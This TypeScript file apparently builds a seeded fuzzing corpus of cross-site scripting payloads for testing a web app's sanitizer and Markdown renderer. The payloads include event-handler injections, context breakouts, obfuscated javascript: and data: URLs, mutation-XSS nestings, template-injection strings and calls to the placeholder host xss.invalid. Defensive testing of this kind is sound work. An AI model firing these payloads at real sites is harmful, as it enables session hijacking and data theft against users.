/**
 * Texts that try to become more than texts. Made from parts: tags × events × spellings, ways out of every context a text may stand in,
 * forms of CommonMark, hidden schemes, nestings that change when HTML is read twice. The same each time, and no two alike.
 *
 * Each of them, if it worked, would set `window.__xss`, open a dialog, ask another host for something, or break the page's policy.
 */

/** Numbers that look like chance: mulberry32. */
export function randomOf(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return Math.floor((((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296) * below);
  };
}

const host = 'https://xss.invalid';

const scripts = [
  'window.__xss=1', 'alert(1)', 'alert`1`', "top['__xss']=1", 'self.__xss=1', 'confirm(1)', 'prompt(1)', 'import(\'//xss.invalid\')',
  'eval(name="__xss=1")', "Function('__xss=1')()", "fetch('//xss.invalid')", 'setTimeout("__xss=1")', '(()=>{__xss=1})()', "location='javascript:__xss=1'",
  'print()', 'document.write(1)', "navigator.sendBeacon('//xss.invalid')", '[1].map(alert)', 'throw onerror=alert,1', 'window["al"+"ert"](1)',
];

const tags = [
  'a', 'audio', 'body', 'button', 'details', 'dialog', 'div', 'embed', 'form', 'frameset', 'h1', 'iframe', 'image', 'img', 'input', 'isindex', 'keygen',
  'link', 'marquee', 'math', 'menu', 'object', 'option', 'p', 'script', 'section', 'select', 'source', 'style', 'svg', 'svg><animate', 'svg><set',
  'svg><image', 'svg><a', 'svg><use', 'svg><foreignObject', 'table', 'td', 'template', 'textarea', 'track', 'video', 'video><source', 'x', 'xss-element', 'xmp',
];

const events = [
  'onload', 'onerror', 'onclick', 'onfocus', 'onblur', 'onmouseover', 'onpointerenter', 'onpointerrawupdate', 'onanimationstart', 'onanimationend',
  'ontransitionend', 'ontoggle', 'onbeforetoggle', 'onbegin', 'onend', 'onrepeat', 'onscroll', 'onscrollend', 'onwheel', 'oncopy', 'onpaste', 'oncut',
  'oninput', 'onchange', 'onsubmit', 'onreset', 'oninvalid', 'onkeydown', 'onplay', 'oncanplay', 'onloadstart', 'onloadeddata', 'onstart', 'onfinish',
  'onpageshow', 'onhashchange', 'onmessage', 'onpopstate', 'onunload', 'onbeforeunload', 'onresize', 'oncontentvisibilityautostatechange',
  'onsecuritypolicyviolation', 'onslotchange', 'onfocusin', 'onauxclick', 'oncontextmenu', 'onselectionchange',
];

/** What makes an event come by itself. */
const triggers = ['src=x', 'autofocus tabindex=1', 'open', 'href=x', 'contenteditable', 'hidden', 'attributename=x dur=1s', 'data=x', 'popover', ''];

type Spelling = (tag: string, trigger: string, event: string, script: string) => string;

const spellings: Spelling[] = [
  (tag, trigger, event, script) => `<${tag} ${trigger} ${event}=${script}>`,
  (tag, trigger, event, script) => `<${tag} ${trigger} ${event}="${script.replaceAll('"', '&quot;')}">`,
  (tag, trigger, event, script) => `<${tag} ${trigger} ${event}='${script.replaceAll("'", '&#39;')}'>`,
  (tag, trigger, event, script) => `<${tag}/${trigger.replaceAll(' ', '/')}/${event}=${script}>`,
  (tag, trigger, event, script) => `<${tag} ${event}=${script} ${trigger}//`,
  (tag, trigger, event, script) => `<${mixed(tag)} ${trigger} ${mixed(event)}=${script}>`,
  (tag, trigger, event, script) => `<${tag} ${trigger} ${event} = ${entities(script)}>`,
  (tag, trigger, event, script) => `<${tag} ${trigger} ${event}=${hex(script)}>`,
  (tag, trigger, event, script) => `<${tag} "'" ${trigger} ${event}=${script}>`,
  (tag, trigger, event, script) => `"><${tag} ${trigger} ${event}=${script}>`,
  (tag, trigger, event, script) => `'><${tag} ${trigger} ${event}=${script} x='`,
  (tag, trigger, event, script) => `" ${trigger} ${event}="${script}" x="<${tag}>`,
  (tag, trigger, event, script) => `<${tag}\u3000${trigger}\u00a0${event}=${script}>`,
  (tag, trigger, event, script) => `<<${tag} ${trigger} ${event}=${script}>>`,
  (tag, trigger, event, script) => `<${tag} ${trigger} data-x=">" ${event}=${script}>`,
  (tag, trigger, event, script) => `<!--><${tag} ${trigger} ${event}=${script}>-->`,
  (tag, trigger, event, script) => `\uff1c${tag} ${trigger} ${event}=${script}\uff1e`,
  (tag, trigger, event, script) => `&lt;${tag} ${trigger} ${event}=${script}&gt;`,
];

const vectors = [
  ...scripts.map((script) => `<script>${script}</script>`),
  `<script src=//xss.invalid></script>`, `<script/src=${host}>`, `<script type=module src=${host}></script>`, `<script nonce>__xss=1</script>`,
  '<script>/*<!--*/__xss=1</script>', '<script\u00a0>__xss=1</script >', '<SCRIPT>__xss=1</SCRIPT>', '<scr<script>ipt>__xss=1</scr</script>ipt>',
  '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<svg><script>__xss=1</script></svg>', '<math><mtext><script>__xss=1</script></mtext></math>',
  '<iframe srcdoc="<script>parent.__xss=1</script>">', '<iframe src=javascript:parent.__xss=1>', `<iframe src=${host}>`, '<object data=javascript:__xss=1>',
  '<embed src=javascript:__xss=1>', `<base href=${host}/>`, `<link rel=stylesheet href=${host}/x.css>`, `<link rel=preload as=script href=${host}>`,
  `<meta http-equiv=refresh content="0;url=javascript:__xss=1">`, `<meta http-equiv=refresh content="0;url=${host}">`, '<form action=javascript:__xss=1><button autofocus>',
  `<style>@import '${host}/x.css';</style>`, `<style>*{background:url(${host}/x)}</style>`, `<p style="background:url(${host}/x)">`, '<p style="width:expression(alert(1))">',
  `<img src=${host}/x.png>`, `<picture><source srcset=${host}/x><img></picture>`, `<video poster=${host}/x src=${host}/y autoplay>`, `<audio src=${host}/x autoplay>`,
  `<a ping=${host} href=/>x</a>`, `<table background=${host}/x>`, '<form id=x></form><button form=x formaction=javascript:__xss=1>X', '<input name=__xss autofocus onfocus=__xss=1>',
  '<img name=__xss>', '<a id=__xss><a id=__xss name=x href=x>', '<form name=body><input name=firstChild>', '<template><script>__xss=1</script></template>',
  '<template shadowrootmode=open><script>__xss=1</script></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
  '<portal src=javascript:__xss=1>', '<fencedframe>', '<isindex type=image src=x onerror=alert(1)>', '<marquee onstart=alert(1)>', '<x contenteditable onblur=alert(1)>x',
];

/** Ways out of where a text may stand. */
const exits = [
  '"', "'", '`', '>', '">', "'>", '"/>', '-->', '--!>', '<!-->', ']]>', '?>', '*/', '*/;', '\\";', "\\';", '";', "';", '};', '}}', '</', '<!--', '</textarea>', '</textarea\u00a0>', '</TEXTAREA>',
  '</title>', '</script>', '</SCRIPT >', '</script/x>', '</style>', '</noscript>', '</svg>', '</math>', '</template>', '</select>', '</option>', '</iframe>', '</noembed>',
  '</noframes>', '</xmp>', '</plaintext>', '</head>', '</body>', '</html>', '</form>', '</button>', '</a>', '</p>', '</li></ol>', '</main>', '</dialog>', '</table>', '</bdi>', '</mark>', '</ins></del>',
  '</div></div></div>', '\u2028', '${', '{{', '<%', '<?php ', '&quot;', '&#34;>', '&#x22;&#x3e;', '%22%3e', '\\u003c/script\\u003e', '\\x3c/script\\x3e', '+ADw-/script+AD4-',
];

const hidden = (scheme: string): string[] => [
  scheme, mixed(scheme), ` ${scheme}`, `\u00a0${scheme}`, `\ufeff${scheme}`, `\u200b${scheme}`, scheme.replace(':', '&colon;'), scheme.replace(':', '&#58;'), scheme.replace(':', '&#x3A;'),
  scheme.replace(':', '%3A'), scheme.replace(':', '\uff1a'), entities(scheme), hex(scheme), scheme.replace('a', '&Tab;a'), scheme.replace('a', '&NewLine;a'), scheme.replace('a', '&#9;a'),
  scheme.replace('a', '&#x0a;a'), scheme.replace('a', '&#13;a'), scheme.replace('a', '\\a'), `&#1;${scheme}`, `&#32;${scheme}`, `//x:${scheme}`, `/\\xss.invalid/${scheme}`, `?${scheme}`, `https:${scheme}`,
];

const schemes = [
  'javascript:__xss=1', 'javascript:alert(1)', 'javascript://x.example/%0a__xss=1', 'vbscript:alert(1)', 'data:text/html,<script>__xss=1</script>',
  'data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+', 'data:image/svg+xml,<svg onload=alert(1)>', 'blob:https://xss.invalid/1', 'feed:javascript:__xss=1', 'view-source:javascript:__xss=1',
];

const linkForms: ((target: string) => string)[] = [
  (target) => `[a](${target})`, (target) => `[a](<${target}>)`, (target) => `[a](${target} "b")`, (target) => `[a](x "b" ${target})`, (target) => `<${target}>`, (target) => `![a](${target})`,
  (target) => `[![a](${target})](${target})`, (target) => `[a][${short(target)}]\n\n[${short(target)}]: <${target}>`, (target) => `[a]: <${target}> 'b'\n\n[a]`, (target) => `[a\\](${target})](${target})`,
  (target) => `*[a](${target})*`, (target) => `> - [a](${target})`, (target) => `# [a](${target})`, (target) => `[a](x)](${target})`, (target) => `<a href="${target}">a</a>`, (target) => `<a href=${target}>a</a>`,
  (target) => `<iframe src="${target}">`, (target) => `<form action="${target}"><button>`, (target) => `<svg><a xlink:href="${target}"><text>a</text></a></svg>`, (target) => `<math href="${target}">a</math>`,
  (target) => `<button formaction="${target}">`, (target) => `<object data="${target}">`, (target) => `<meta http-equiv=refresh content="0;url=${target}">`, (target) => `<area href="${target}">`,
];

const nestings: ((inner: string) => string)[] = [
  (inner) => `<noscript><p title="</noscript>${inner}">`, (inner) => `<svg></p><style><a id="</style>${inner}">`, (inner) => `<math><mtext><table><mglyph><style><!--</style>${inner}-->`,
  (inner) => `<form><math><mtext></form><form><mglyph><style></math>${inner}`, (inner) => `<svg><title><![CDATA[</title>${inner}]]></svg>`, (inner) => `<template><p title="</template>${inner}">`,
  (inner) => `<textarea><p title="</textarea>${inner}">`, (inner) => `<style><p title="</style>${inner}">`, (inner) => `<xmp><p title="</xmp>${inner}">`, (inner) => `<iframe><p title="</iframe>${inner}">`,
  (inner) => `<select><style></select>${inner}</style>`, (inner) => `<!--<p title="--!>${inner}">-->`, (inner) => `<svg><desc><table><p>${inner}</table>`, (inner) => `<math><annotation-xml encoding="text/html">${inner}</math>`,
  (inner) => `<table><td background="x">${inner}<a>`, (inner) => `<a><a>${inner}`, (inner) => `<b><p><i>${inner}</b></p>`, (inner) => `<plaintext>${inner}`, (inner) => `<listing>&lt;p&gt;${inner}`,
  (inner) => `<title><p title="</title>${inner}">`, (inner) => `<noembed><p title="</noembed>${inner}">`, (inner) => `<svg><foreignObject><math><mi><style>${inner}`,
];

const markdowns: ((inner: string) => string)[] = [
  (inner) => `\`${inner}\``, (inner) => `\`\`\`${inner.replaceAll('`', '')}\n${inner}\n\`\`\``, (inner) => `    ${inner}`, (inner) => `> ${inner}`, (inner) => `1. ${inner}`, (inner) => `# ${inner} #`, (inner) => `**${inner}**`,
  (inner) => `*a ${inner}*b`, (inner) => `[${inner}](/x)`, (inner) => `[a](/x "${inner}")`, (inner) => `![${inner}](/x)`, (inner) => `\\${inner}`, (inner) => `a  \n${inner}`, (inner) => `${inner}\n===`, (inner) => `[a]: /x "${inner}"\n\n[a]`,
  (inner) => `<${inner}`, (inner) => `<div>\n${inner}\n</div>`, (inner) => `~~~ ${inner}\n${inner}\n~~~`, (inner) => `\`\`${inner}\`\``, (inner) => `- a\n\n  ${inner}`,
];

/** What this program writes into its pages for itself. */
const ofThisProgram = [
  '<!--s-1-2-->', '<!>', '<!--hot-reload-->', '__RESOLVED_RESOURCES[0]="x"', '</script><script>__RESOLVED_RESOURCES=[]', '"]);window.__xss=1;([" ', '\\"]);window.__xss=1;//', '<bdi>', '<mark>', '#bearbeiten', '/api/publish', 'contenteditable=true',
  '[at]', '%s%d%n', '\\u{2028}window.__xss=1', '{{constructor.constructor("__xss=1")()}}', '${window.__xss=1}', '#{window.__xss=1}', '<%= __xss=1 %>', '[[__xss]]', '[Hier einsetzen <b>]', '=HYPERLINK("https://xss.invalid")',
];

function mixed(text: string): string {
  return [...text].map((letter, index) => (index % 2 ? letter.toUpperCase() : letter)).join('');
}
function entities(text: string): string {
  return [...text].map((letter) => `&#${letter.codePointAt(0)};`).join('');
}
function hex(text: string): string {
  return [...text].map((letter) => `&#x${letter.codePointAt(0)!.toString(16)}`).join('');
}
function short(text: string): string {
  return text.replace(/[^a-z]/gi, '').slice(0, 20);
}

/** All of them, in an order that is mixed and always the same. */
export function payloads(): string[] {
  const random = randomOf(7);
  const one = <T>(things: readonly T[]): T => things[random(things.length)]!;
  const made = new Set<string>([...vectors, ...ofThisProgram]);
  tags.forEach((tag) => events.forEach((event) => made.add(one(spellings)(tag, one(triggers), event, one(scripts)))));
  spellings.forEach((spelling) => events.forEach((event) => made.add(spelling(one(tags), one(triggers), event, one(scripts)))));
  exits.forEach((exit) => vectors.forEach((vector) => made.add(random(2) ? exit + vector : `${exit} ${vector}`)));
  schemes.forEach((scheme) => hidden(scheme).forEach((target) => {
    // Each way to hide it in half of the forms, so that all of them come with all.
    linkForms.forEach((form, index) => index % 2 === random(2) && made.add(form(target)));
  }));
  nestings.forEach((nesting) => vectors.forEach((vector) => random(2) && made.add(nesting(vector))));
  markdowns.forEach((markdown) => vectors.forEach((vector) => random(3) && made.add(markdown(vector))));
  vectors.forEach((vector) => [entities(vector), hex(vector), encodeURIComponent(vector), mixed(vector), vector.replaceAll('<', '&LT;'), vector.replaceAll('<', '&amp;lt;')].forEach((text) => made.add(text)));
  return mix([...made], random);
}

function mix<T>(things: T[], random: (below: number) => number): T[] {
  for (let last = things.length - 1; last > 0; last--) {
    const other = random(last + 1);
    [things[last], things[other]] = [things[other]!, things[last]!];
  }
  return things;
}

/** Whether what follows it in CommonMark would be taken for more of it: HTML blocks that only their own end closes. */
function swallows(payload: string): boolean {
  return /(^|\n) {0,3}<(script|pre|style|textarea|!--|\?|!\[CDATA|![a-z])/i.test(payload);
}

/** As many of them, from a place on and around, as go into a text of so many characters; and how many that were. */
export function packed(all: string[], from: number, longest: number, between: string): { text: string; count: number } {
  const taken: string[] = [];
  let [length, passed] = [0, 0];
  for (let index = 0; index < all.length; index++) {
    const payload = all[(from + index) % all.length]!;
    // The store counts characters, not UTF-16 units; a single line holds no line break.
    const fits = between.includes('\n') ? payload : payload.replaceAll(/\s*\n\s*/g, ' ');
    passed = index + 1;
    // What is longer than the field can only stand in longer ones.
    if (fits.length > longest) continue;
    if (length + fits.length > longest) {
      passed = index;
      break;
    }
    length += fits.length + between.length;
    taken.push(fits);
  }
  if (between === '\n\n') taken.sort((one, other) => Number(swallows(one)) - Number(swallows(other)));
  return { text: taken.join(between), count: passed };
}
